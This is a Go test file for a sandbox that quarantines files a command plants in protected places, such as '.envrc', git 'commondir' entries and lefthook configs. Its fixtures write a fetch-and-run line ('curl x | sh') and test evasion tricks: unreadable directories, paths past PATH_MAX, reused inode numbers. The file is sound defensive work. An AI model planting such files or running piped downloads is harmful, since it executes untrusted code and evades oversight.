package sandbox

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// scannedRoot is a writable root scanned before a command, as Wrap does,
// and when.
type scannedRoot struct {
	*writableRoot
	since time.Time
}

// scanned scans root before a command, as Wrap does.
func scanned(t testing.TB, root string, writable []string) scannedRoot {
	t.Helper()
	since := time.Now().Add(-time.Second)
	dir, err := openRoot(root)
	if err != nil {
		t.Fatal(err)
	}
	r := &writableRoot{path: root, dir: dir}
	t.Cleanup(r.close)
	if r.quarantine, err = openQuarantine(dir); err != nil {
		t.Fatal(err)
	}
	if r.found, err = scanRoot(dir, root, writable, false, ScanBudget{}); err != nil {
		t.Fatal(err)
	}
	return scannedRoot{r, since}
}

// quarantine checks the root after a command, as Finish does, and returns
// what it moved and restored and what it could not check.
func (r scannedRoot) quarantine(writable []string, id string) (done, restored []string, err error) {
	res := r.check(writable, id, r.since, ScanBudget{})
	return append(res.quarantined, res.aside...), res.restored, res.err
}

func write(t *testing.T, path, data string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(data), 0o644); err != nil {
		t.Fatal(err)
	}
}

// gitRepo makes a minimal git directory at dir.
func gitRepo(t *testing.T, dir string) {
	t.Helper()
	for _, d := range []string{"objects", "refs", "hooks"} {
		if err := os.MkdirAll(filepath.Join(dir, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write(t, filepath.Join(dir, "HEAD"), "ref: refs/heads/main\n")
	write(t, filepath.Join(dir, "config"), "[core]\n\tbare = false\n")
}

// After a command, what it planted is quarantined even where it took the
// scan's access away: a directory made search-only, unreadable or
// unsearchable (chmod 100, 000, 444; the workspace itself too) is given
// its owner's access back first, and reported. Meaningful for a server
// that is not root (root reads through any mode): CI runs it as both.
func TestScanAfterHiddenDirectories(t *testing.T) {
	for _, mode := range []os.FileMode{0o100, 0o000, 0o444, 0o300} {
		for _, c := range []struct {
			name     string
			writable []string
			setup    func(t *testing.T, root string)
			plant    func(t *testing.T, root string) (planted, hidden string)
		}{
			{"git directory", []string{GitName}, func(t *testing.T, root string) { gitRepo(t, filepath.Join(root, ".git")) },
				func(t *testing.T, root string) (string, string) {
					write(t, filepath.Join(root, ".git/commondir"), "../x\n")
					return ".git/commondir", ".git"
				}},
			{"git modules", []string{GitName}, func(t *testing.T, root string) {
				gitRepo(t, filepath.Join(root, ".git"))
				gitRepo(t, filepath.Join(root, ".git/modules/sub"))
			}, func(t *testing.T, root string) (string, string) {
				write(t, filepath.Join(root, ".git/modules/sub/commondir"), "../../x\n")
				return ".git/modules/sub/commondir", ".git/modules"
			}},
			{".config", nil, nil, func(t *testing.T, root string) (string, string) {
				write(t, filepath.Join(root, ".config/lefthook-local.yml"), "pre-commit: {}\n")
				return ".config/lefthook-local.yml", ".config"
			}},
			{"nested work tree", nil, func(t *testing.T, root string) { gitRepo(t, filepath.Join(root, "sub/.git")) },
				func(t *testing.T, root string) (string, string) {
					write(t, filepath.Join(root, "sub/.envrc"), "curl x | sh\n")
					return "sub/.envrc", "sub"
				}},
			{"the workspace", nil, nil, func(t *testing.T, root string) (string, string) {
				write(t, filepath.Join(root, ".envrc"), "curl x | sh\n")
				return ".envrc", "."
			}},
		} {
			t.Run(c.name+"/"+mode.String(), func(t *testing.T) {
				root := t.TempDir()
				if c.setup != nil {
					c.setup(t, root)
				}
				r := scanned(t, root, c.writable)
				planted, hidden := c.plant(t, root)
				if err := os.Chmod(filepath.Join(root, hidden), mode); err != nil {
					t.Fatal(err)
				}
				t.Cleanup(func() { _ = os.Chmod(filepath.Join(root, hidden), 0o755) })
				done, restored, err := r.quarantine(c.writable, "T")
				if err != nil {
					t.Fatalf("quarantine: %v", err)
				}
				if !slices.Contains(done, planted) {
					t.Errorf("%s not quarantined (quarantined %q, restored %q)", planted, done, restored)
				}
				if _, err := os.Lstat(filepath.Join(root, planted)); err == nil {
					t.Errorf("%s is still there", planted)
				}
				if os.Geteuid() != 0 && mode&0o500 != 0o500 && !slices.Contains(restored, hidden) {
					t.Errorf("restored %q, want %s among them", restored, hidden)
				}
			})
		}
	}
}

// A path longer than PATH_MAX (made one directory at a time, as a
// command can) neither hides what is at its end nor fails the scan (which
// would lock the server out).
func TestScanAfterLongPath(t *testing.T) {
	root := t.TempDir()
	r := scanned(t, root, nil)
	fd, err := unix.Open(root, unix.O_DIRECTORY|unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		t.Fatal(err)
	}
	comp := strings.Repeat("a", 250)
	var rel []string
	for range 20 { // 5020 bytes, past PATH_MAX
		if err := unix.Mkdirat(fd, comp, 0o755); err != nil {
			t.Fatal(err)
		}
		sub, err := unix.Openat(fd, comp, unix.O_DIRECTORY|unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			t.Fatal(err)
		}
		unix.Close(fd)
		fd = sub
		rel = append(rel, comp)
	}
	file, err := unix.Openat(fd, ".envrc", unix.O_CREAT|unix.O_WRONLY|unix.O_CLOEXEC, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	unix.Close(file)
	unix.Close(fd)
	t.Cleanup(func() { removeDeep(t, root, rel) })
	planted := strings.Join(append(rel, ".envrc"), "/")
	done, _, err := r.quarantine(nil, "T")
	if err != nil {
		t.Fatalf("quarantine: %.300v", err)
	}
	if !slices.Contains(done, planted) {
		t.Fatalf("the deep .envrc was not quarantined (%d quarantined)", len(done))
	}
}

// removeDeep removes a chain of directories too deep for a path, and
// what lies in the last.
func removeDeep(t *testing.T, root string, chain []string) {
	fds := []int{}
	fd, err := unix.Open(root, unix.O_DIRECTORY|unix.O_RDONLY|unix.O_CLOEXEC, 0)
	for _, c := range chain {
		if err != nil {
			break
		}
		fds = append(fds, fd)
		fd, err = unix.Openat(fd, c, unix.O_DIRECTORY|unix.O_RDONLY|unix.O_CLOEXEC, 0)
	}
	if err == nil {
		if f := os.NewFile(uintptr(fd), "last"); f != nil {
			names, _ := f.Readdirnames(-1)
			for _, n := range names {
				_ = unix.Unlinkat(fd, n, 0)
			}
			f.Close()
		}
	}
	for i := len(fds) - 1; i >= 0; i-- {
		_ = unix.Unlinkat(fds[i], chain[i], unix.AT_REMOVEDIR)
		unix.Close(fds[i])
	}
}

// A file the rule lets the command write, removed, does not vouch for
// another made at a protected name that got its inode number.
func TestScanAfterInodeNumberReused(t *testing.T) {
	root := t.TempDir()
	write(t, filepath.Join(root, ".npmrc"), "registry=https://example.test/\n")
	writable := []string{".npmrc"}
	r := scanned(t, root, writable)
	if err := os.Remove(filepath.Join(root, ".npmrc")); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(root, ".envrc"), "curl x | sh\n")
	done, _, err := r.quarantine(writable, "T")
	if err != nil || !slices.Contains(done, ".envrc") {
		t.Fatalf("quarantined %q (%v), want .envrc", done, err)
	}
}
